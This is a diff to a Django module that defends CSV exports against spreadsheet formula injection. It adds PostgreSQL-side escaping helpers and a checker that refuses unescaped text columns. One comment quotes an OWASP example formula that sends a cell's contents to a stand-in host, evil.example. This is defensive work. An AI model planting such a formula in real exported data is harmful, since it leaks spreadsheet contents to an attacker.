@@ -6,11 +6,16 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import Iterable, Iterator
+from dataclasses import dataclass
 from datetime import date
 from decimal import Decimal
+from itertools import islice
 
-from django.db.models import TextField
-from django.db.models.functions import Cast
+from django.db import models
+from django.db.models import Case, F, QuerySet, TextField, Value, When
+from django.db.models.constants import LOOKUP_SEP
+from django.db.models.functions import Cast, Concat, Left
+from django.db.models.lookups import In
 
 # OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
 # turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
@@ -40,11 +45,83 @@ def spreadsheet_cell(value) -> object:
     return "'" + text if text.startswith(FORMULA_STARTS) else text
 
 
+# Expressions whose every value a spreadsheet reads as written, made so by PostgreSQL:
+# ``sql_rows`` accepts a queryset whose columns are all of these (or whole numbers).
+_SAFE = "spreadsheet_safe"
+
+
+def _safe(expression):
+    setattr(expression, _SAFE, True)  # kept by the copies Django makes as it resolves
+    return expression
+
+
 def as_text(field: str) -> Cast:
     """A date or amount column as PostgreSQL writes it (2026-04-01, 12.50), for a long
     export: read as text, it needs no date or Decimal made and written back per cell.
     Only for columns that cannot start a formula (dates, amounts never below zero)."""
-    return Cast(field, output_field=TextField())
+    return _safe(Cast(field, output_field=TextField()))
+
+
+def safe_text(field: str) -> Case:
+    """A text column with the formula rule applied by PostgreSQL (a leading apostrophe
+    where the text starts like a formula), so a long export checks no cell in Python."""
+    return _safe(
+        Case(
+            When(In(Left(field, 1), FORMULA_STARTS),
+                 then=Concat(Value("'"), F(field), output_field=TextField())),
+            default=F(field),
+            output_field=TextField(),
+        )
+    )  # fmt: skip
+
+
+def choice_label(field: str, choices) -> Case:
+    """A choices column as its label (what ``get_FOO_display`` shows), from PostgreSQL."""
+    labels = dict(choices)
+    if any(str(label).startswith(FORMULA_STARTS) for label in labels.values()):
+        raise ValueError(f"a label of {field} starts like a formula")
+    return _safe(
+        Case(
+            *[When(**{field: value}, then=Value(str(label))) for value, label in labels.items()],
+            default=F(field),
+            output_field=TextField(),
+        )
+    )
+
+
+def trusted(expression):
+    """An expression the caller knows yields only text that cannot start a formula (a
+    count written as text, a fixed label). Say why where it is used."""
+    return _safe(expression)
+
+
+@dataclass(frozen=True)
+class SqlRows:
+    """A queryset of ``values_list`` rows that PostgreSQL has made spreadsheet-safe,
+    written to the CSV as they come (see ``sql_rows``)."""
+
+    queryset: QuerySet
+
+
+# Plain columns a spreadsheet reads as written: whole numbers (ids, counts).
+_PLAIN_SAFE = (models.IntegerField, models.AutoField)
+
+
+def sql_rows(queryset: QuerySet) -> SqlRows:
+    """Mark a ``values_list`` queryset as safe to write unchecked, after checking that it
+    is: every column must be ``as_text``, ``safe_text``, ``choice_label`` or ``trusted``,
+    or a whole-number field. A text column taken straight from a model is refused."""
+    query = queryset.query
+    for name, expression in query.annotation_select.items():
+        if not getattr(expression, _SAFE, False):
+            raise ValueError(f"CSV column {name!r} is not made spreadsheet-safe")
+    for name in query.values_select:
+        field = query.names_to_path(name.split(LOOKUP_SEP), query.get_meta())[1]
+        if not isinstance(field, _PLAIN_SAFE) or isinstance(field, models.BooleanField):
+            raise ValueError(f"CSV column {name!r} is not made spreadsheet-safe")
+    if query.extra_select:
+        raise ValueError("CSV columns from extra() cannot be checked")
+    return SqlRows(queryset)
 
 
 class _Echo:
@@ -66,20 +143,44 @@ _WRITTEN_AS_THEY_ARE = frozenset({Decimal, int, date, type(None)})
 
 
 def csv_blocks(
-    header: list[str], rows: Iterable[Iterable], rows_per_block: int = 1000
+    header: list[str], *parts: Iterable[Iterable] | SqlRows, rows_per_block: int = 1000
 ) -> Iterator[str]:
     """``csv_lines`` in blocks of rows, for a long StreamingHttpResponse: a chunk per row
     costs the server more than the row itself (a year's export at ten years of data:
-    60,000 writes to the socket), while a block keeps memory as flat as a row."""
+    60,000 writes to the socket), while a block keeps memory as flat as a row.
+
+    Each part is either rows made safe here, cell by cell, or ``sql_rows``, which
+    PostgreSQL made safe and which go to the writer as they come: a Python check per
+    cell was most of a long export's time."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
-    cell, as_they_are, formula = spreadsheet_cell, _WRITTEN_AS_THEY_ARE, FORMULA_STARTS
     buffer.write(BOM)
-    writer.writerow([cell(value) for value in header])
+    writer.writerow([spreadsheet_cell(value) for value in header])
+    for part in parts:
+        if isinstance(part, SqlRows):
+            blocks = _sql_blocks(part.queryset, rows_per_block)
+        else:
+            blocks = _checked_blocks(part, rows_per_block)
+        for block in blocks:
+            writer.writerows(block)
+            yield buffer.getvalue()
+            buffer.seek(0)
+            buffer.truncate()
+    if buffer.tell():  # the header, when there are no rows
+        yield buffer.getvalue()
+
+
+def _sql_blocks(queryset: QuerySet, size: int) -> Iterator[list]:
+    rows = queryset.iterator(chunk_size=max(size, 2000))
+    while block := list(islice(rows, size)):
+        yield block
+
+
+def _checked_blocks(rows: Iterable[Iterable], size: int) -> Iterator[list]:
+    cell, as_they_are, formula = spreadsheet_cell, _WRITTEN_AS_THEY_ARE, FORMULA_STARTS
     block: list[list] = []
     for row in rows:
-        # spreadsheet_cell's rule, with its commonest cases written out: a call per cell
-        # was a third of the export's time.
+        # spreadsheet_cell's rule, with its commonest cases written out.
         block.append(
             [
                 ("'" + value if value.startswith(formula) else value)
@@ -88,11 +189,8 @@ def csv_blocks(
                 for value in row
             ]
         )
-        if len(block) == rows_per_block:
-            writer.writerows(block)
-            block.clear()
-            yield buffer.getvalue()
-            buffer.seek(0)
-            buffer.truncate()
-    writer.writerows(block)
-    yield buffer.getvalue()
+        if len(block) == size:
+            yield block
+            block = []
+    if block:
+        yield block
